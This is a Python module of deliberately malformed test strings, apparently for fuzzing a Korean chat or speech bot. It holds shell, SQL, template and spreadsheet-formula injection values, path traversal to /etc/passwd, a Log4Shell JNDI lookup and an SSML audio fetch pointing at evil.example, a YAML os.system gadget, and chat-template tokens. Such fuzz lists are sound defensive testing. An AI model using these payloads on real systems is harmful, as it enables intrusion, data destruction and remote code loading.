"""Texts that break programs: of our own, each for one way in which that happens."""

import itertools

_SHELL = (
    "$(touch pwned)", "`touch pwned`", "; touch pwned", "| touch pwned", "&& touch pwned", "|| touch pwned",
    "\ntouch pwned\n", "'; touch pwned; '", '"; touch pwned; "', "> pwned", "$IFS$9touch pwned", "%COMSPEC%",
    "../../../etc/passwd", "..\\..\\windows\\win.ini", "/dev/null", "/dev/zero", "file:///etc/passwd", "~root", "*", "?",
    "CON", "NUL", "COM1", "LPT1", "con.txt", ".", "..", "\\\\evil\\share", "$HOME", "${PATH}", "#!/bin/sh",
)  # fmt: skip
_OPTIONS = (
    "-", "--", "-h", "--help", "--version", "-f /etc/passwd", "-w pwned", "--stdout", "-s 450", "-p 99",
    "-v en", "--path=/", "-m <speak>", "--phonout=pwned", "--compile=en", "-X", "--", "-- -h", "/?", "@pwned",
)  # fmt: skip
_SPOKEN = (
    "<speak><break time='20s'/></speak>", "<audio src='https://evil.example/x.wav'/>", "<mark name='x'/>",
    "<prosody rate='x-fast'>빠르게</prosody>", "<say-as interpret-as='characters'>abc</say-as>", "[[h@l'oU]]",
    "<voice name='en'>", "<emphasis>", "<!-- -->", "&lt;break/&gt;", "<speak version='1.0' xml:base='/'>", "\\pau=5000\\",
    "가" * 3_000, "1" * 400, "!" * 500, "a." * 500, "ㅋ" * 1_000, "..." * 300, "," * 300, "9" * 40 + "원",
)  # fmt: skip
_DATABASE = (
    "'; DROP TABLE turn; --", "1' OR '1'='1", '" OR ""="', "1;DELETE FROM chat", "') OR 1=1--", "UNION SELECT 1",
    "\\'; DROP TABLE turn; --", "%", "_", "\\", "NULL", "null", "None", "nil", "undefined", "true", "false", "NaN",
)  # fmt: skip
_FORMS = (
    "%s", "%d", "%n", "%x%x%x", "%(x)s", "%08x", "{0}", "{}", "{name}", "{0.__class__}", "{partner!r}", "{{}}",
    "${7*7}", "#{7*7}", "{{7*7}}", "<%= 7*7 %>", "$x", "\\g<0>", "\\1", "\\u0000", "&amp;", "&#0;", "%00", "%0a", "\\x00",
)  # fmt: skip
_NUMBERS = (
    "0", "-1", "1e400", "-0", "0.0", "00001", "1,000", "1_000", "0x10", "١٢٣", "Ⅷ", "½", "²", "９９９", "999999999999999999999",
    "2147483648", "9223372036854775808", "-9223372036854775809", "1/0", "Infinity", "NaN", "1e-400", "0b1",
)  # fmt: skip
_UNICODE = (
    "\x00", "a\x00b", "\x01\x02\x03", "\x07", "\x08", "\x1b[2J\x1b[31m", "\x7f", "\x85", "\u200b", "\ufeff", "\u202e나라",
    "\u2066x\u2069", "\u2028", "\u2029", "\ufffe", "\uffff", "\U0010ffff", "\U000e0041", "e\u0301" * 50, "Z\u0351\u034a\u0305" * 60,
    "ᄀ" * 50, "ᅟᅠㅤﾠ", "각", "각", "ﷺ", "𒐫", "👩‍👩‍👧‍👦" * 30, "🇰🇷🇰", "👍🏿", "\U0001f3f4\U000e0067\U000e007f", "ǅ", "ß", "İ", "ı",
    "ﬁ", "Å", "Ω", "ⓐ", "①", "㍿", "𝐀", "田中さん", "你好", "مرحبا", "שלום", "สวัสดี", "Привет", "ｱｲｳ", "\ud800", "\udfff", "\ud83d",
)  # fmt: skip
_SPACES = (
    "",
    " ",
    "\t",
    "\n",
    "\r\n",
    "\r",
    "\x0b",
    "\x0c",
    "\u00a0",
    "\u1680",
    "\u3000",
    "  \n\n  ",
    "\n" * 400,
)
_NAMES = (
    "__proto__", "constructor", "__init__", "self", "admin", "root", "system", "스트리머", "관리자", "온유", "러블름",
    "@everyone", "#channel", "!상담", "!", "!!", "! 상담", "！상담", "/상담", "!상담!상담", "!없는명령 x", "온유", "온유야", "AI",
)  # fmt: skip
_CODE = (
    '{"type":"chat"}', "[" * 500, "{" * 500, '"', '\\"', "]]>", "<?xml?>", "---\n- !!python/object:os.system", "&a [*a,*a]",
    "=cmd|'/c calc'!A0", "+1+1", "@SUM(1)", "BEGIN:VCARD", "${jndi:ldap://evil.example/x}", "() { :;}; touch pwned",
    "import os", "eval(1)", "a" * 500, "(a+)+$" * 20, "\\", "\\\\", "\\n", "</s>", "<|im_end|>", "[INST]", "⟦", "⟧",
)  # fmt: skip
NAUGHTY = tuple(
    dict.fromkeys(
        itertools.chain(
            _SHELL, _OPTIONS, _SPOKEN, _DATABASE, _FORMS, _NUMBERS, _UNICODE, _SPACES, _NAMES, _CODE
        )
    )
)  # fmt: skip
